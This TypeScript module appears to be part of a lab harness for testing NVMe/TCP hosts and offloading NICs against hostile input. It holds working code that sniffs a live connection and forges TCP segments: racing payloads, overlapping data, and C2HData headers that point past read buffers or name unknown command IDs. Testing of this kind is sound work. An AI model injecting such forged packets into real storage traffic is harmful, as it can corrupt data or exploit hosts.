/**
 * Forged TCP segments for a live NVMe/TCP connection (hostile input): what an on-path attacker who sees the target's frames can inject
 * toward the host, built as whole IPv4 packets for raw-inject.ts.
 *
 * The forger learns a connection from the frames it sniffs next to the
 * target (StreamSniffer): the target's next sequence number, the ACK and
 * timestamps it sends (a forged segment must carry both right or the host's
 * TCP drops it: ACK of unsent data, PAWS), whether C2HData carries digests,
 * and where PDU headers are in the target's stream — the walk a receiver
 * does, done on the sender's side where bytes go out in order. With that it
 * can aim a segment at a byte TCP has not received yet (it wins if it gets
 * there before the real one: TCP keeps the first copy), at bytes TCP
 * already holds (an overlapping retransmission with other bytes: TCP keeps
 * its first copy and drops these), or at the next PDU header, replacing it
 * with a C2HData header of its own: a real in-flight CID with DATAO or
 * DATAL past the read's buffer, or a CID that is not outstanding.
 *
 * Everything here is pure (frames in, packets out); lab/forge/inject-cli.ts
 * sniffs and injects.
 */
import { crc32c } from '../../wire/crc32c.js';
import { parseFrame, type FrameRepr } from '../../wire/frame.js';
import { buildIpv4, IPPROTO_TCP, IPV4_DF } from '../../wire/ipv4.js';
import { NVME_TCP_COMMON_HEADER_LEN, NVME_TCP_DIGEST_LEN, PduFlags, PduType, isPlausiblePduHeader } from '../../wire/nvme-tcp-pdu.js';
import { PduHeaderView, pduHeaderLength } from '../../wire/nvme-tcp-pdu-header.js';
import { seqAdd, seqDiff, seqGt, seqLe, seqLt } from '../../wire/seq.js';
import { buildTcp, TCP_ACK, TCP_PSH, TCP_RST, TCP_SYN } from '../../wire/tcp.js';

/** C2HData and CapsuleResp headers are both 24 bytes. */
const C2H_HLEN = pduHeaderLength(PduType.C2HData);
/** The ICResp a target sends first on every connection. */
const ICRESP_PLEN = pduHeaderLength(PduType.ICResp);

/** A C2HData header to forge. */
export interface ForgedC2HData {
  readonly cccid: number;
  readonly datao: number;
  readonly datal: number;
  /** The connection's digests: a forged header must carry them as configured or it is refused as malformed. */
  readonly hdgst: boolean;
  readonly ddgst: boolean;
  readonly lastPdu?: boolean;
}

/**
 * The header (and HDGST) of a C2HData PDU, with no data after it: PLEN
 * announces DATAL bytes and the DDGST as a real PDU would (PDO right after
 * the header), so every check a receiver makes on the header alone passes.
 */
export function forgeC2HDataHeader(h: ForgedC2HData): Buffer {
  const headLen = C2H_HLEN + (h.hdgst ? NVME_TCP_DIGEST_LEN : 0);
  const out = Buffer.alloc(headLen);
  const v = new PduHeaderView(out);
  v.type = PduType.C2HData;
  v.flags = (h.hdgst ? PduFlags.HDGSTF : 0) | (h.ddgst ? PduFlags.DDGSTF : 0) | (h.lastPdu === true ? PduFlags.LAST_PDU : 0);
  v.hlen = C2H_HLEN;
  v.pdo = headLen;
  v.plen = headLen + h.datal + (h.ddgst ? NVME_TCP_DIGEST_LEN : 0);
  v.cccid = h.cccid;
  v.datao = h.datao >>> 0;
  v.datal = h.datal >>> 0;
  if (h.hdgst) v.hdgst = crc32c(v.headerBytes());
  return out;
}

/** A PDU header the sniffer walked. */
export interface SniffedPdu {
  /** TCP sequence number of its first byte. */
  readonly seq: number;
  readonly type: number;
  readonly flags: number;
  readonly plen: number;
  /** CCCID of a C2HData, CID of a CapsuleResp or of a CapsuleCmd's SQE; -1 for other types. */
  readonly cid: number;
  /** C2HData only (else 0). */
  readonly datao: number;
  /** C2HData: DATAL; CapsuleCmd: the transfer length its SGL descriptor gives. */
  readonly datal: number;
  /** CapsuleCmd: the SQE's opcode (0x02 read); -1 for other types. */
  readonly opcode: number;
}

/** A read the forger saw data for and no completion yet: a CID a forged header can name. */
export interface InflightRead {
  readonly cid: number;
  /** End of the furthest data seen (DATAO + DATAL): the buffer is at least this long. */
  readonly dataEnd: number;
  /** The last C2HData PDU of it carried LAST_PDU: dataEnd is the buffer's length. */
  readonly lastSeen: boolean;
}

/** What a forged segment needs to pass the host's TCP checks, as last seen from the target. */
export interface ConnectionView {
  readonly targetIp: number;
  readonly hostIp: number;
  readonly targetPort: number;
  readonly hostPort: number;
  /** The target's next new sequence number (highest byte sent + 1). */
  readonly sndNxt: number;
  /** The ACK the target sent last (the host's data it received). */
  readonly ack: number;
  readonly window: number;
  /** The target's latest TSval and TSecr, when the connection uses timestamps. */
  readonly tsVal: number | undefined;
  readonly tsEcr: number | undefined;
  /** Digests, as the C2HData headers carry them (undefined until one went by). */
  readonly hdgst: boolean | undefined;
  readonly ddgst: boolean | undefined;
  /** Where the next PDU header of the target's stream starts, once the walk is in sync. */
  readonly nextPduSeq: number | undefined;
}

/** Which direction of the connection a sniffer walks: the target's (C2H) or the host's (H2C). */
export type SniffDirection = 'c2h' | 'h2c';

/** A TCP segment to or from the target's port, and which way it goes. */
interface TargetSegment {
  readonly ip: NonNullable<FrameRepr['ip']>;
  readonly tcp: NonNullable<FrameRepr['tcp']>;
  readonly fromTarget: boolean;
  readonly hostPort: number;
}

/** Parses a sniffed frame; undefined for anything but TCP to or from `targetPort` (or a frame that does not parse). */
function targetSegment(frame: Buffer, targetPort: number): TargetSegment | undefined {
  let f: FrameRepr;
  try {
    f = parseFrame(frame);
  } catch {
    return undefined;
  }
  const tcp = f.tcp;
  if (f.ip === undefined || tcp === undefined) return undefined;
  const fromTarget = tcp.srcPort === targetPort;
  if (!fromTarget && tcp.dstPort !== targetPort) return undefined;
  return { ip: f.ip, tcp, fromTarget, hostPort: fromTarget ? tcp.dstPort : tcp.srcPort };
}

/** Header bytes the walk gathers: enough for a CapsuleCmd's SQE (8 + 64), and every C2H header. */
const HDR_GATHER = 72;

/**
 * One direction of one connection as the forger sees it next to the
 * target. Feed it every frame of the connection in capture order; it walks
 * PDU headers in that direction's new bytes and reports each one. A header
 * split across segments is gathered; retransmissions are skipped (their
 * bytes were walked when they first went by). In the target's direction it
 * also keeps what a forged segment must match (view()) and the reads in
 * flight.
 *
 * Sync: from the SYN (the stream starts with ICReq/ICResp), or, when the
 * sniffer starts mid-connection, at the first segment that begins with a
 * plausible header of a type this direction carries after the handshake.
 */
export class StreamSniffer {
  private readonly targetPort: number;
  private readonly dir: SniffDirection;
  private targetIp = 0;
  private hostIp = 0;
  private hostPort = 0;
  private known = false;
  private sndNxt = 0;
  private ack = 0;
  private window = 0;
  private tsVal: number | undefined;
  private tsEcr: number | undefined;
  private hdgst: boolean | undefined;
  private ddgst: boolean | undefined;
  // The walk.
  private synced = false;
  private nextPdu = 0;
  private readonly hdr = Buffer.alloc(HDR_GATHER);
  private readonly hdrView = new PduHeaderView(this.hdr);
  private hdrFill = 0;
  private hdrNeed = NVME_TCP_COMMON_HEADER_LEN;
  private readonly inflight = new Map<number, InflightRead>();

  constructor(targetPort = 4420, direction: SniffDirection = 'c2h') {
    this.targetPort = targetPort;
    this.dir = direction;
  }

  /** Takes one frame; returns the PDU headers of this direction that completed in it. */
  observe(frame: Buffer): SniffedPdu[] {
    const seg = targetSegment(frame, this.targetPort);
    if (seg === undefined || seg.fromTarget !== (this.dir === 'c2h')) return [];
    const { ip, tcp, fromTarget, hostPort } = seg;
    const hostIp = fromTarget ? ip.dst : ip.src;
    const targetIp = fromTarget ? ip.src : ip.dst;
    if (!this.known) {
      this.known = true;
      this.targetIp = targetIp;
      this.hostIp = hostIp;
      this.hostPort = hostPort;
    } else if (targetIp !== this.targetIp || hostIp !== this.hostIp || hostPort !== this.hostPort) {
      return [];
    }
    if ((tcp.flags & TCP_RST) !== 0) return [];
    this.ack = tcp.ack;
    this.window = tcp.window;
    if (tcp.options.tsVal !== undefined) {
      this.tsVal = tcp.options.tsVal;
      this.tsEcr = tcp.options.tsEcr;
    }
    const len = tcp.payload.length;
    if ((tcp.flags & TCP_SYN) !== 0) {
      this.sndNxt = seqAdd(tcp.seq, 1 + len);
      this.resync(seqAdd(tcp.seq, 1));
      return [];
    }
    if (len === 0) return [];
    const end = seqAdd(tcp.seq, len);
    const fresh = !this.synced || seqGt(end, this.sndNxt);
    if (!this.synced && this.startsWithHeader(tcp.payload)) {
      this.resync(tcp.seq);
      this.sndNxt = tcp.seq;
    }
    if (!fresh) return [];
    const out: SniffedPdu[] = [];
    if (this.synced) this.walk(tcp.seq, tcp.payload, out);
    if (!this.synced || seqGt(end, this.sndNxt)) this.sndNxt = end;
    return out;
  }

  /** The connection as a forged segment must match it; undefined before the first frame (meaningful in the target's direction). */
  view(): ConnectionView | undefined {
    if (!this.known) return undefined;
    return {
      targetIp: this.targetIp,
      hostIp: this.hostIp,
      targetPort: this.targetPort,
      hostPort: this.hostPort,
      sndNxt: this.sndNxt,
      ack: this.ack,
      window: this.window,
      tsVal: this.tsVal,
      tsEcr: this.tsEcr,
      hdgst: this.hdgst,
      ddgst: this.ddgst,
      nextPduSeq: this.synced ? this.nextPdu : undefined,
    };
  }

  /** Reads with data seen and no completion yet (target's direction). */
  inflightReads(): InflightRead[] {
    return [...this.inflight.values()];
  }

  private resync(seq: number): void {
    this.synced = true;
    this.nextPdu = seq;
    this.hdrFill = 0;
    this.hdrNeed = NVME_TCP_COMMON_HEADER_LEN;
  }

  private startsWithHeader(payload: Buffer): boolean {
    const t = payload[0];
    const ok = this.dir === 'c2h' ? t === PduType.C2HData || t === PduType.CapsuleResp : t === PduType.CapsuleCmd || t === PduType.H2CData;
    return ok && isPlausiblePduHeader(payload, 0);
  }

  /** Walks the new bytes of a segment that starts at `seq`. */
  private walk(seq: number, payload: Buffer, out: SniffedPdu[]): void {
    if (seqGt(seq, this.sndNxt)) {
      // A hole on the sender's side: the capture missed frames. Lose the walk; find a header again.
      this.synced = false;
      return;
    }
    // Bytes before sndNxt went by already (a segment overlapping the last one).
    let at = seqLt(seq, this.sndNxt) ? seqDiff(this.sndNxt, seq) : 0;
    while (at < payload.length) {
      const pos = seqAdd(seq, at);
      if (seqLt(pos, this.nextPdu)) {
        at += Math.min(payload.length - at, seqDiff(this.nextPdu, pos));
        continue;
      }
      const n = Math.min(this.hdrNeed - this.hdrFill, payload.length - at);
      payload.copy(this.hdr, this.hdrFill, at, at + n);
      this.hdrFill += n;
      at += n;
      if (this.hdrFill < this.hdrNeed) return;
      if (this.hdrNeed === NVME_TCP_COMMON_HEADER_LEN) {
        if (!isPlausiblePduHeader(this.hdr, 0)) {
          this.synced = false;
          return;
        }
        this.hdrNeed = Math.min(this.hdrView.hlen, HDR_GATHER);
        if (this.hdrFill < this.hdrNeed) continue;
      }
      const plen = this.hdrView.plen;
      out.push(this.header(this.nextPdu, plen));
      this.nextPdu = seqAdd(this.nextPdu, plen);
      this.hdrFill = 0;
      this.hdrNeed = NVME_TCP_COMMON_HEADER_LEN;
    }
  }

  private header(seq: number, plen: number): SniffedPdu {
    const h = this.hdrView;
    const type = h.type;
    const flags = h.flags;
    let cid = -1;
    let datao = 0;
    let datal = 0;
    let opcode = -1;
    if (type === PduType.C2HData) {
      cid = h.cccid;
      datao = h.datao;
      datal = h.datal;
      this.hdgst = (flags & PduFlags.HDGSTF) !== 0;
      this.ddgst = (flags & PduFlags.DDGSTF) !== 0;
      const prev = this.inflight.get(cid);
      const end = datao + datal;
      this.inflight.set(cid, { cid, dataEnd: Math.max(end, prev?.dataEnd ?? 0), lastSeen: (flags & PduFlags.LAST_PDU) !== 0 });
      if ((flags & PduFlags.SUCCESS) !== 0) this.inflight.delete(cid);
    } else if (type === PduType.CapsuleResp) {
      cid = h.capsuleRespCid;
      this.inflight.delete(cid);
    } else if (type === PduType.CapsuleCmd) {
      opcode = h.capsuleCmdOpcode;
      cid = h.capsuleCmdCid;
      datal = h.capsuleCmdSglLength;
    } else if (type === PduType.ICResp && plen !== ICRESP_PLEN) {
      this.synced = false;
    }
    return { seq, type, flags, plen, cid, datao, datal, opcode };
  }
}

/** TCP header choices of a forged segment; by default what the target would send now. */
export interface ForgeTcp {
  readonly seq: number;
  readonly payload: Buffer;
  /** Default ACK|PSH. */
  readonly flags?: number;
  /** Default the target's last ACK. */
  readonly ack?: number;
  /** Default TS_AHEAD ticks past the target's last TSval (see forgeSegment). */
  readonly tsVal?: number;
  /** IPv4 identification: marks the forger's packets in a capture. */
  readonly ipId?: number;
}

/**
 * How far ahead of the target's timestamp clock a forged TSval goes: 50
 * ticks, 50 ms of Linux's 1 kHz TCP timestamp clock. If the host takes the
 * segment in order its TS.Recent jumps that far, and the target's own
 * segments fail PAWS for as long (they are retransmitted): a bounded cost.
 */
export const TS_AHEAD = 50;

/** IP identification of every forged packet: lets a capture or a test tell them from the target's. */
export const FORGED_IP_ID = 0xf0f0;

/**
 * A whole IPv4 packet from the target to the host, as `view` says the
 * target sends now, with the sequence number, payload and any field the
 * caller overrides. The TCP checksum is right (a wrong one would be dropped
 * by the NIC before anything else looks at it).
 */
export function forgeSegment(view: ConnectionView, f: ForgeTcp): Buffer {
  // Ahead of the target's last TSval: segments of the target the forger has not seen yet (it is a
  // process behind a capture, milliseconds late on a busy machine) may have moved the host's TS.Recent
  // on, and PAWS drops anything older.
  const tsVal = f.tsVal ?? (view.tsVal === undefined ? undefined : (view.tsVal + TS_AHEAD) >>> 0);
  const tcp = buildTcp(
    {
      srcPort: view.targetPort,
      dstPort: view.hostPort,
      seq: f.seq >>> 0,
      ack: (f.ack ?? view.ack) >>> 0,
      flags: f.flags ?? TCP_ACK | TCP_PSH,
      window: view.window,
      options: tsVal !== undefined ? { tsVal, tsEcr: view.tsEcr ?? 0 } : undefined,
    },
    view.targetIp,
    view.hostIp,
    f.payload,
  );
  return buildIpv4({ src: view.targetIp, dst: view.hostIp, protocol: IPPROTO_TCP, ttl: 64, id: f.ipId ?? FORGED_IP_ID, flags: IPV4_DF }, tcp);
}

/** What a forged segment does to the host's stream (docs/hostile-input.md). */
export type ForgeCase = 'in-window' | 'overlap' | 'past-buffer' | 'unknown-cid' | RefusedForgeCase;

/**
 * A C2HData header with data at the next PDU boundary, in a segment the
 * host's TCP refuses: a TSval older than the target's (PAWS) or an ACK of
 * data the host never sent. TCP drops it whatever it holds; a NIC that
 * parses every frame, as the DDP series' NIC does, places it.
 */
export type RefusedForgeCase = 'refused-stale-ts' | 'refused-bad-ack';

export const FORGE_CASES: readonly ForgeCase[] = ['overlap', 'in-window', 'past-buffer', 'unknown-cid', 'refused-stale-ts', 'refused-bad-ack'];

/** How far behind the target's TSval a stale one is: far older than any segment in flight, well within 2^31. */
export const TS_STALE = 100_000;
/** How far past the target's last ACK a bad one is: more than the host has in flight. */
export const ACK_PAST = 0x0100_0000;

/** Forged data bytes after the header of a refused case: every one a byte the NIC would place. */
export const REFUSED_DATA_BYTES = 1024;
/** What they hold (the pattern never repeats one byte so long). */
export const REFUSED_FILL = 0xee;

/** A refused case at `seq`: `header` and REFUSED_DATA_BYTES of REFUSED_FILL, with the TCP field TCP refuses. */
function refusedPlan(kind: RefusedForgeCase, view: ConnectionView, seq: number, header: ForgedC2HData, why: string): ForgePlan {
  const payload = Buffer.concat([forgeC2HDataHeader(header), Buffer.alloc(REFUSED_DATA_BYTES, REFUSED_FILL)]);
  const tcp =
    kind === 'refused-stale-ts'
      ? { tsVal: ((view.tsVal ?? 0) - TS_STALE) >>> 0 }
      : { ack: (view.ack + ACK_PAST) >>> 0 };
  return {
    kind,
    seq,
    len: payload.length,
    header,
    packet: forgeSegment(view, { seq, payload, ...tcp }),
    what: `${kind}: C2HData cid ${header.cccid} DATAO ${header.datao} DATAL ${header.datal} with ${REFUSED_DATA_BYTES} bytes at seq ${seq >>> 0}${why}`,
  };
}

/** One planned injection: the packet, and where it aims in the target's stream. */
export interface ForgePlan {
  readonly kind: ForgeCase;
  readonly seq: number;
  readonly len: number;
  /** For header forgeries: the header put there. */
  readonly header?: ForgedC2HData;
  readonly packet: Buffer;
  /** One line for the injector's log. */
  readonly what: string;
}

/** A forged C2HData header alone, injected at `seq`; `why` ends its log line. */
function headerPlan(kind: ForgeCase, view: ConnectionView, seq: number, header: ForgedC2HData, why: string): ForgePlan {
  const payload = forgeC2HDataHeader(header);
  return {
    kind,
    seq,
    len: payload.length,
    header,
    packet: forgeSegment(view, { seq, payload }),
    what: `${kind}: C2HData cid ${header.cccid} DATAO ${header.datao} DATAL ${header.datal} at seq ${seq >>> 0}${why}`,
  };
}

/** A CID no read is using: what the forger names for an unknown CID. */
export const UNKNOWN_CID = 0xbeef;

/**
 * Plans `kind` on the connection `view` describes, triggered by the C2HData
 * header `pdu` the sniffer just walked (the header's segment is the last
 * one the target sent, so its end is the target's sndNxt):
 *  - overlap: the last `overlapBytes` the target sent, again, with every
 *    byte inverted — TCP holds the first copy already;
 *  - in-window: `forgeBytes` of other payload inside the data of this PDU,
 *    ahead of what the target has sent — it wins if it gets there first;
 *  - past-buffer: at the next PDU header (after this PDU), a C2HData for
 *    this read's CID that starts at the end of the data seen for it (its
 *    last PDU: the end of its buffer), or, when `datalPast`, starts at 0 and
 *    runs 4 KiB past that end;
 *  - unknown-cid: at the next PDU header, a C2HData for UNKNOWN_CID.
 * Undefined when the view lacks what the case needs (digests unknown, a
 * PDU too small to aim inside).
 */
export function planForgery(
  kind: ForgeCase,
  view: ConnectionView,
  pdu: SniffedPdu,
  read: InflightRead | undefined,
  opts: { readonly overlapBytes?: number; readonly forgeBytes?: number; readonly datalPast?: boolean; readonly fill?: number } = {},
): ForgePlan | undefined {
  if (pdu.type !== PduType.C2HData || view.hdgst === undefined || view.ddgst === undefined) return undefined;
  const headLen = C2H_HLEN + (view.hdgst ? NVME_TCP_DIGEST_LEN : 0);
  const pduEnd = seqAdd(pdu.seq, pdu.plen);
  switch (kind) {
    case 'overlap': {
      const n = Math.min(opts.overlapBytes ?? 1024, seqDiff(view.sndNxt, pdu.seq));
      if (n <= 0) return undefined;
      const seq = seqAdd(view.sndNxt, -n);
      const payload = Buffer.alloc(n, opts.fill ?? 0x5a);
      return { kind, seq, len: n, packet: forgeSegment(view, { seq, payload }), what: `overlap: ${n} bytes at seq ${seq >>> 0}, all already sent` };
    }
    case 'in-window': {
      const n = opts.forgeBytes ?? 1024;
      // Aim at the second half of this PDU's data: far enough ahead that the real bytes may not be out yet.
      const dataEnd = seqAdd(pdu.seq, headLen + pdu.datal);
      const seq = seqAdd(dataEnd, -n);
      if (pdu.datal < 4 * n || seqLe(seq, view.sndNxt)) return undefined;
      const payload = Buffer.alloc(n, opts.fill ?? 0xa5);
      return { kind, seq, len: n, packet: forgeSegment(view, { seq, payload }), what: `in-window: ${n} bytes of other payload at seq ${seq >>> 0} (sent up to ${view.sndNxt >>> 0})` };
    }
    case 'refused-stale-ts':
    case 'refused-bad-ack': {
      // At the next header, the PDU just seen again: if it gets there first, the NIC writes over data it placed.
      if (seqLe(pduEnd, view.sndNxt)) return undefined;
      const header: ForgedC2HData = { cccid: pdu.cid, datao: pdu.datao, datal: pdu.datal, hdgst: view.hdgst, ddgst: view.ddgst };
      return refusedPlan(kind, view, pduEnd, header, `, over cid ${pdu.cid}'s data just sent`);
    }
    case 'past-buffer':
    case 'unknown-cid': {
      if (seqLe(pduEnd, view.sndNxt)) return undefined;
      let header: ForgedC2HData;
      if (kind === 'unknown-cid') {
        header = { cccid: UNKNOWN_CID, datao: 0, datal: 4096, hdgst: view.hdgst, ddgst: view.ddgst };
      } else {
        if (read === undefined) return undefined;
        const end = Math.max(read.dataEnd, pdu.datao + pdu.datal);
        header =
          opts.datalPast === true
            ? { cccid: read.cid, datao: 0, datal: end + 4096, hdgst: view.hdgst, ddgst: view.ddgst }
            : { cccid: read.cid, datao: end, datal: 4096, hdgst: view.hdgst, ddgst: view.ddgst };
      }
      return headerPlan(kind, view, pduEnd, header, '');
    }
  }
}

/** Read commands (CapsuleCmd, opcode 0x02) as the forger sees them on the host's side. */
const NVME_CMD_READ = 0x02;

/**
 * Plans `kind` on a read command the host just sent (`cmd`: its CID and
 * transfer length), when the target's stream is idle at a PDU boundary (a
 * target holding completions, --delay-us): the read's C2HData will start
 * exactly at `view.nextPduSeq`, and the forger knows its CID and length
 * before the target answers. So it can win for sure:
 *  - past-buffer: a C2HData header for the read's CID at that boundary,
 *    DATAO at the end of its buffer (or, with `datalPast`, DATAO 0 and
 *    DATAL 4 KiB past the end);
 *  - unknown-cid: a C2HData header for UNKNOWN_CID there;
 *  - in-window: `forgeBytes` of other payload in the middle of the read's
 *    data to come.
 * Undefined when the stream is not idle at a boundary, digests are not
 * known yet, or the case is 'overlap' (planned on C2HData instead).
 */
export function planAtCommand(
  kind: ForgeCase,
  view: ConnectionView,
  cmd: SniffedPdu,
  opts: { readonly forgeBytes?: number; readonly datalPast?: boolean; readonly fill?: number } = {},
): ForgePlan | undefined {
  if (cmd.type !== PduType.CapsuleCmd || cmd.opcode !== NVME_CMD_READ || cmd.datal === 0) return undefined;
  const at = view.nextPduSeq;
  if (at === undefined || at !== view.sndNxt || view.hdgst === undefined || view.ddgst === undefined) return undefined;
  const headLen = C2H_HLEN + (view.hdgst ? NVME_TCP_DIGEST_LEN : 0);
  switch (kind) {
    case 'overlap':
      return undefined;
    case 'refused-stale-ts':
    case 'refused-bad-ack': {
      const header: ForgedC2HData = { cccid: cmd.cid, datao: 0, datal: cmd.datal, hdgst: view.hdgst, ddgst: view.ddgst };
      return refusedPlan(kind, view, at, header, `, before the target answers read cid ${cmd.cid}`);
    }
    case 'in-window': {
      const n = opts.forgeBytes ?? 1024;
      if (cmd.datal < 4 * n) return undefined;
      const seq = seqAdd(at, headLen + Math.floor(cmd.datal / 2));
      const payload = Buffer.alloc(n, opts.fill ?? 0xa5);
      return { kind, seq, len: n, packet: forgeSegment(view, { seq, payload }), what: `in-window: ${n} bytes of other payload in the data of read cid ${cmd.cid}, at seq ${seq >>> 0}, before the target answers` };
    }
    case 'past-buffer':
    case 'unknown-cid': {
      const header: ForgedC2HData =
        kind === 'unknown-cid'
          ? { cccid: UNKNOWN_CID, datao: 0, datal: 4096, hdgst: view.hdgst, ddgst: view.ddgst }
          : opts.datalPast === true
            ? { cccid: cmd.cid, datao: 0, datal: cmd.datal + 4096, hdgst: view.hdgst, ddgst: view.ddgst }
            : { cccid: cmd.cid, datao: cmd.datal, datal: 4096, hdgst: view.hdgst, ddgst: view.ddgst };
      return headerPlan(kind, view, at, header, `, before the target answers read cid ${cmd.cid}`);
    }
  }
}

/** One injection the Forger decided on: the plan and the connection (the host's port). */
export interface ForgeInjection extends ForgePlan {
  readonly hostPort: number;
}

export interface ForgerOptions {
  /** Cases to inject, in order, one at a time. */
  readonly cases: readonly ForgeCase[];
  readonly targetPort?: number;
  /** C2HData PDUs shorter than this do not trigger (default 32 KiB: I/O-queue reads, not the admin queue's Identify). */
  readonly minPlen?: number;
  /** Triggers to let go by between two injections (default 4). */
  readonly spacing?: number;
  /** Triggers to let go by before the first injection (default: spacing). */
  readonly after?: number;
  /**
   * Where the cases other than overlap aim: 'race' (default) at the first
   * trigger they can be planned on, racing the target's own bytes; 'idle'
   * only at a read command while the target's stream is idle (a target
   * holding its answers, --delay-us), where the forged bytes come first.
   */
  readonly aim?: 'race' | 'idle';
}

/**
 * The forger's decisions over every connection to the target: two sniffers
 * per connection (the target's stream and the host's), and the schedule —
 * after `spacing` triggers (C2HData headers of at least `minPlen`, read
 * commands of at least that length) have gone by on any connection, the
 * next case is planned on the next trigger it can be planned on (a read
 * command when the target's stream is idle, else a C2HData header), until
 * every case was injected. Frames the forger sent itself (its IP
 * identification, a sequence and length it injected) are not taken for
 * the target's.
 */
export class Forger {
  private readonly conns = new Map<number, { c2h: StreamSniffer; h2c: StreamSniffer }>();
  private readonly targetPort: number;
  private readonly minPlen: number;
  private readonly spacing: number;
  private readonly aim: 'race' | 'idle';
  private readonly todo: ForgeCase[];
  private triggers = 0;
  private nextAt: number;
  private readonly sent = new Set<string>();

  constructor(opts: ForgerOptions) {
    this.targetPort = opts.targetPort ?? 4420;
    this.minPlen = opts.minPlen ?? 32 * 1024;
    this.spacing = opts.spacing ?? 4;
    this.aim = opts.aim ?? 'race';
    this.todo = [...opts.cases];
    this.nextAt = opts.after ?? this.spacing;
  }

  /** Cases not injected yet. */
  get pending(): readonly ForgeCase[] {
    return this.todo;
  }

  /** Takes one sniffed frame (either direction); returns what to inject now. */
  onFrame(frame: Buffer): ForgeInjection[] {
    const seg = targetSegment(frame, this.targetPort);
    if (seg === undefined) return [];
    const { ip, tcp, fromTarget, hostPort } = seg;
    if (fromTarget && ip.id === FORGED_IP_ID && this.sent.has(`${hostPort}:${tcp.seq}:${tcp.payload.length}`)) return [];
    let c = this.conns.get(hostPort);
    if (c === undefined) {
      c = { c2h: new StreamSniffer(this.targetPort, 'c2h'), h2c: new StreamSniffer(this.targetPort, 'h2c') };
      this.conns.set(hostPort, c);
    }
    const out: ForgeInjection[] = [];
    for (const pdu of (fromTarget ? c.c2h : c.h2c).observe(frame)) {
      if (this.todo.length === 0) break;
      const trigger = pdu.type === PduType.C2HData ? pdu.plen >= this.minPlen : pdu.type === PduType.CapsuleCmd && pdu.opcode === NVME_CMD_READ && pdu.datal >= this.minPlen;
      if (!trigger) continue;
      this.triggers++;
      if (this.triggers < this.nextAt) continue;
      const view = c.c2h.view();
      if (view === undefined) continue;
      const kind = this.todo[0]!;
      let plan: ForgePlan | undefined;
      if (pdu.type === PduType.CapsuleCmd) plan = planAtCommand(kind, view, pdu);
      else if (kind === 'overlap' || this.aim === 'race') plan = planForgery(kind, view, pdu, c.c2h.inflightReads().find((r) => r.cid === pdu.cid));
      if (plan === undefined) continue;
      this.todo.shift();
      this.nextAt = this.triggers + this.spacing;
      this.sent.add(`${hostPort}:${plan.seq >>> 0}:${plan.len}`);
      out.push({ ...plan, hostPort });
    }
    return out;
  }
}
